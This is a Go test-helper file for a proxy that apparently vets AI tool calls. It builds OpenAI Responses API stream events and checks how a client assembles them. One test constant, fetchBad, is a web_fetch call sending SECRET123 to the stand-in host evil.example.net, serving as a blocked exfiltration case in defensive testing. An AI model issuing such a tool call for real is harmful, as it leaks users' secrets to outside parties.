package responses

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/tidwall/gjson"
	"github.com/tidwall/sjson"

	"github.com/promptgate/promptgate/policy/vet"
	"github.com/promptgate/promptgate/proxy/relay/relaytest"
)

// Arguments used across the tests.
const (
	fetchGood   = `{"url":"https://docs.example.com/a"}`
	fetchBad    = `{"url":"https://evil.example.net/?leak=SECRET123"}`
	weatherArgs = `{"city":"Oslo"}`
)

// policy is the checker most tests use: web_fetch may only fetch the docs site.
func checkerFor(mode vet.Mode, atomic bool) *vet.Checker { return relaytest.Policy(mode, atomic) }

func jstr(s string) string { return relaytest.JSONString(s) }

// rs builds a Responses stream the way OpenAI sends it: every event with an event: line and an
// increasing sequence_number, and the final output collected for response.completed.
type rs struct {
	seq    int
	evs    []string
	output []string
}

// ev adds one event: data is a JSON object without type and sequence_number.
func (r *rs) ev(typ, data string) *rs {
	d := `{"type":` + jstr(typ) + `,"sequence_number":` + itoa(r.seq) + `,` + strings.TrimPrefix(data, "{")
	r.seq++
	r.evs = append(r.evs, "event: "+typ+"\ndata: "+d+"\n\n")
	return r
}

func (r *rs) created() *rs {
	return r.ev("response.created", `{"response":{"id":"resp_1","object":"response","created_at":1,"status":"in_progress","model":"gpt-4.1","output":[],"tools":[]}}`)
}

// message streams a message item at output_index oi with text in pieces of n runes.
func (r *rs) message(oi int, id, text string, n int) *rs {
	item := `{"id":"` + id + `","type":"message","status":"in_progress","content":[],"role":"assistant"}`
	r.ev("response.output_item.added", `{"output_index":`+itoa(oi)+`,"item":`+item+`}`)
	r.ev("response.content_part.added", `{"item_id":"`+id+`","output_index":`+itoa(oi)+`,"content_index":0,"part":{"type":"output_text","annotations":[],"logprobs":[],"text":""}}`)
	for _, p := range splitRunes(text, n) {
		r.ev("response.output_text.delta", `{"item_id":"`+id+`","output_index":`+itoa(oi)+`,"content_index":0,"delta":`+jstr(p)+`,"logprobs":[]}`)
	}
	r.ev("response.output_text.done", `{"item_id":"`+id+`","output_index":`+itoa(oi)+`,"content_index":0,"text":`+jstr(text)+`,"logprobs":[]}`)
	part := `{"type":"output_text","annotations":[],"logprobs":[],"text":` + jstr(text) + `}`
	r.ev("response.content_part.done", `{"item_id":"`+id+`","output_index":`+itoa(oi)+`,"content_index":0,"part":`+part+`}`)
	done := `{"id":"` + id + `","type":"message","status":"completed","content":[` + part + `],"role":"assistant"}`
	r.ev("response.output_item.done", `{"output_index":`+itoa(oi)+`,"item":`+done+`}`)
	r.output = append(r.output, done)
	return r
}

// fnItem is a function_call item.
func fnItem(id, callID, name, args, status string) string {
	it := `{"id":"","type":"function_call","status":"","arguments":"","call_id":"","name":""}`
	it, _ = sjson.Set(it, "id", id)
	it, _ = sjson.Set(it, "status", status)
	it, _ = sjson.Set(it, "arguments", args)
	it, _ = sjson.Set(it, "call_id", callID)
	it, _ = sjson.Set(it, "name", name)
	return it
}

// call streams a function_call item at output_index oi, its arguments in pieces of n runes.
func (r *rs) call(oi int, id, callID, name, args string, n int) *rs {
	r.ev("response.output_item.added", `{"output_index":`+itoa(oi)+`,"item":`+fnItem(id, callID, name, "", "in_progress")+`}`)
	for _, p := range splitRunes(args, n) {
		r.ev("response.function_call_arguments.delta", `{"item_id":"`+id+`","output_index":`+itoa(oi)+`,"delta":`+jstr(p)+`}`)
	}
	r.ev("response.function_call_arguments.done", `{"item_id":"`+id+`","output_index":`+itoa(oi)+`,"arguments":`+jstr(args)+`}`)
	done := fnItem(id, callID, name, args, "completed")
	r.ev("response.output_item.done", `{"output_index":`+itoa(oi)+`,"item":`+done+`}`)
	r.output = append(r.output, done)
	return r
}

// reasoning streams a reasoning item at output_index oi with a one-part summary, and its encrypted
// content in the done item.
func (r *rs) reasoning(oi int, id, summary string) *rs {
	at := `"item_id":"` + id + `","output_index":` + itoa(oi) + `,"summary_index":0`
	r.ev("response.output_item.added", `{"output_index":`+itoa(oi)+`,"item":{"id":"`+id+`","type":"reasoning","summary":[]}}`)
	r.ev("response.reasoning_summary_part.added", `{`+at+`,"part":{"type":"summary_text","text":""}}`)
	r.ev("response.reasoning_summary_text.delta", `{`+at+`,"delta":`+jstr(summary)+`}`)
	r.ev("response.reasoning_summary_text.done", `{`+at+`,"text":`+jstr(summary)+`}`)
	r.ev("response.reasoning_summary_part.done", `{`+at+`,"part":{"type":"summary_text","text":`+jstr(summary)+`}}`)
	done := `{"id":"` + id + `","type":"reasoning","summary":[{"type":"summary_text","text":` + jstr(summary) + `}],"encrypted_content":"gAAA` + id + `"}`
	r.ev("response.output_item.done", `{"output_index":`+itoa(oi)+`,"item":`+done+`}`)
	r.output = append(r.output, done)
	return r
}

func (r *rs) completed() *rs {
	return r.ev("response.completed", `{"response":{"id":"resp_1","object":"response","created_at":1,"status":"completed","model":"gpt-4.1","output":[`+strings.Join(r.output, ",")+`],"tools":[],"usage":{"input_tokens":1,"output_tokens":2,"total_tokens":3}}}`)
}

func (r *rs) String() string { return strings.Join(r.evs, "") }

func itoa(i int) string {
	b, _ := json.Marshal(i)
	return string(b)
}

func splitRunes(s string, n int) []string { return relaytest.SplitRunes(s, n) }

// call is a function call as a client assembles it.
type call struct {
	CallID, Name, Args string
}

// view is what a client makes of a stream: output items by the output_index it was shown, assembled
// from the events; and the final response's output.
type view struct {
	Types     []string // item type by output_index, in the order output_item.added arrived
	Text      string   // all output_text deltas
	Calls     []call   // function calls assembled from added + deltas
	DoneCalls []call   // function calls of output_item.done
	Final     []gjson.Result
	HasFinal  bool
	Error     string // code of an error event
	After     int    // events after an error or the final response
}

// assemble reads an output stream as a strict client: it checks that sequence numbers increase,
// that items are added at output_index 0, 1, 2, ... and that every event of an item uses its index.
func assemble(t testing.TB, out []byte) view {
	t.Helper()
	var v view
	last := int64(-1)
	byIndex := map[int64]int{} // output_index -> position in Calls
	for ev := range relaytest.Events(t, out) {
		if !gjson.ValidBytes(ev.Data) {
			continue
		}
		if v.HasFinal || v.Error != "" {
			v.After++
		}
		d := gjson.ParseBytes(ev.Data)
		typ := d.Get("type").String()
		if ev.Event != "" && ev.Event != typ {
			t.Fatalf("event line %q for data type %q", ev.Event, typ)
		}
		if seq := d.Get("sequence_number"); seq.Exists() {
			if seq.Int() <= last {
				t.Fatalf("sequence_number %d after %d:\n%s", seq.Int(), last, out)
			}
			last = seq.Int()
		}
		oi := d.Get("output_index").Int()
		switch typ {
		case "error":
			v.Error = d.Get("code").String()
			if d.Get("error.code").String() != v.Error {
				t.Fatalf("error event without the contract's error object: %s", ev.Data)
			}
		case "response.output_item.added":
			if int(oi) != len(v.Types) {
				t.Fatalf("item added at output_index %d, want %d:\n%s", oi, len(v.Types), out)
			}
			v.Types = append(v.Types, d.Get("item.type").String())
			if d.Get("item.type").String() == "function_call" {
				v.Calls = append(v.Calls, call{d.Get("item.call_id").String(), d.Get("item.name").String(), d.Get("item.arguments").String()})
				byIndex[oi] = len(v.Calls) - 1
			}
		case "response.function_call_arguments.delta":
			pos, ok := byIndex[oi]
			if !ok {
				t.Fatalf("arguments delta for output_index %d, which is no call", oi)
			}
			v.Calls[pos].Args += d.Get("delta").String()
		case "response.output_text.delta":
			if int(oi) >= len(v.Types) || v.Types[oi] != "message" {
				t.Fatalf("text delta for output_index %d, which is no message", oi)
			}
			v.Text += d.Get("delta").String()
		case "response.output_item.done":
			if int(oi) >= len(v.Types) || v.Types[oi] != d.Get("item.type").String() {
				t.Fatalf("item done at output_index %d does not match the added item", oi)
			}
			if d.Get("item.type").String() == "function_call" {
				v.DoneCalls = append(v.DoneCalls, call{d.Get("item.call_id").String(), d.Get("item.name").String(), d.Get("item.arguments").String()})
			}
		case "response.completed", "response.incomplete", "response.failed":
			v.HasFinal = true
			v.Final = d.Get("response.output").Array()
		}
	}
	return v
}

// finalCalls are the function calls of the final output.
func (v view) finalCalls() []call {
	var cs []call
	for _, it := range v.Final {
		if it.Get("type").String() == "function_call" {
			cs = append(cs, call{it.Get("call_id").String(), it.Get("name").String(), it.Get("arguments").String()})
		}
	}
	return cs
}

// finalTypes are the item types of the final output.
func (v view) finalTypes() []string {
	var ts []string
	for _, it := range v.Final {
		ts = append(ts, it.Get("type").String())
	}
	return ts
}

// runStream pipes input through a Stream and returns the output, the decisions and the count of
// blocked calls. With split > 0 the upstream returns 1..split bytes per Read.
func runStream(t testing.TB, input string, c *vet.Checker, split int, seed uint64) ([]byte, []vet.Decision, int) {
	t.Helper()
	return relaytest.Run(t, input, split, seed, relaytest.Opener(NewStream, c))
}
